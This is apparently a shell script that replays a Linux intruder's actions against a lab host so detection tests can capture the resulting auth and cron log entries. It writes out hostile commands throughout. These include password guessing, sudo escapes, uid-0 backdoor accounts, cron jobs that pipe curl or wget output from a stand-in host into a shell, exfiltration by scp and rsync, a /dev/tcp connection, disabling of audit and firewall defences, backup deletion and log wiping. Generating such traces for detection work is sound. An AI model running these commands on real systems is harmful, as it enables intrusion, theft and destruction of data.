# What an intruder does once on a Linux server, through real sudo, su, useradd, crontab, cron.

in_as() { ssh_as "$1" 198.51.100.7 "$2"; }

cut_begin host-sudo-denied
for command in 'cat /etc/shadow' 'bash' 'su -'; do
    ssh_guess ttbinh '123456a@' 198.51.100.7 "echo '123456a@' | sudo -S $command"
done
cut_end host-sudo-denied auth.log

cut_begin host-sudo-guess
for round in 1 2; do
    ssh_guess lthoa 'Matkhau#89' 198.51.100.7 "printf '1\n2\n3\n' | sudo -S systemctl status nginx"
done
cut_end host-sudo-guess auth.log

cut_begin host-su-guess
for word in 123456 root toor admin@123 P@ssw0rd qwerty; do
    ssh_guess ttbinh '123456a@' 198.51.100.7 "echo $word | su - root -c id"
done
cut_end host-su-guess auth.log

cut_begin host-sudo-escape
in_as pmduc 'sudo find /etc/hosts -exec /bin/sh -c id \;'
in_as pmduc 'sudo vim -es -c ":!id" -c ":q!" /etc/hosts'
cut_end host-sudo-escape auth.log

cut_begin host-new-account
in_as quantri 'sudo useradd -m -s /bin/bash hotro; echo "hotro:Hotro@123" | sudo chpasswd; sudo usermod -aG sudo hotro'
in_as quantri 'sudo useradd -o -u 0 -g 0 -M -s /bin/bash sysbackup'
in_as quantri 'echo "hotro ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/hotro'
cut_end host-new-account auth.log

cut_begin host-ssh-key
in_as quantri 'sudo mkdir -p /root/.ssh; sudo tee -a /root/.ssh/authorized_keys < /home/quantri/.ssh/authorized_keys'
cut_end host-ssh-key auth.log

cut_begin host-cron
echo '* * * * * root curl -s http://198.51.100.66/x.sh | sh' > /etc/cron.d/capnhat
in_as quantri 'echo "* * * * * wget -q -O - http://198.51.100.66/x.sh | bash" | crontab -'
hit '/uploads/anh-bia.php?cmd=echo%20%22*%20*%20*%20*%20*%20curl%20-s%20http://198.51.100.66/x.sh%20|%20sh%22%20|%20crontab%20-'
sleep 65
rm -f /etc/cron.d/capnhat
in_as quantri 'crontab -r'
cut_end host-cron cron.log auth.log

cut_begin host-download
in_as quantri 'sudo wget -q -O /usr/local/bin/.x http://198.51.100.66/x.sh; sudo chmod +x /usr/local/bin/.x; sudo curl -s -o /tmp/u http://198.51.100.66/update.exe'
in_as quantri 'sudo sh -c "curl -s http://198.51.100.66/x.sh | bash"'
cut_end host-download auth.log

cut_begin host-defences-off
in_as quantri 'sudo systemctl stop auditd; sudo systemctl disable --now rsyslog; sudo service clamav-daemon stop; sudo systemctl stop wazuh-agent'
in_as quantri 'sudo iptables -F; sudo iptables -P INPUT ACCEPT; sudo ufw disable; sudo setenforce 0; sudo auditctl -e 0'
cut_end host-defences-off auth.log

cut_begin host-staging
in_as quantri 'sudo tar czf /srv/portal/uploads/.k.tgz /srv/data /home; sudo mysqldump --all-databases --result-file=/tmp/d.sql; sudo zip -qr /tmp/w.zip /srv/portal'
in_as quantri 'sudo scp -o BatchMode=yes -o StrictHostKeyChecking=no /tmp/w.zip x@198.51.100.66:/tmp/; sudo rsync -a /home/ rsync://198.51.100.66/k/'
cut_end host-staging auth.log

cut_begin host-ransom-preparation
mkdir -p /srv/backup/ngay
echo x > /srv/backup/ngay/1.tgz
in_as quantri 'sudo rm -rf /srv/backup/ngay; sudo find /srv/backup -name "*.tgz" -delete; sudo systemctl stop mariadb; sudo service mysql stop; sudo lvremove -f vg0/snap; sudo vim-cmd vmsvc/getallvms; sudo pkill -9 -f khong-co-chuong-trinh-nay'
cut_end host-ransom-preparation auth.log

cut_begin host-log-clearing
in_as quantri 'sudo truncate -s 0 /var/log/wtmp; sudo rm -f /var/log/btmp; sudo sh -c "echo > /var/log/lastlog"; sudo shred -u /var/log/faillog; sudo journalctl --rotate; sudo journalctl --vacuum-time=1s; sudo rm -rf /var/log/nginx/access.log.1; sudo ln -sf /dev/null /root/.bash_history; history -c; sudo tee /var/log/dpkg.log < /dev/null'
cut_end host-log-clearing auth.log

# the same intruder once more, as the kernel's audit trail saw it: that trail is one file, made by audit.sh
in_as quantri 'cat /etc/passwd; whoami; id; uname -a; ss -tlnp; find / -maxdepth 2 -perm -4000 -type f; curl -s http://198.51.100.66/x.sh -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x; sudo rm -rf /var/log/apt; sudo useradd -m hotro2; bash -c "exec 3<>/dev/tcp/198.51.100.66/80"; unset HISTFILE; base64 -d /etc/hostname; nc -h; sudo chattr +i /tmp/.x; python3 -c "import os;os.system(\"id\")"'
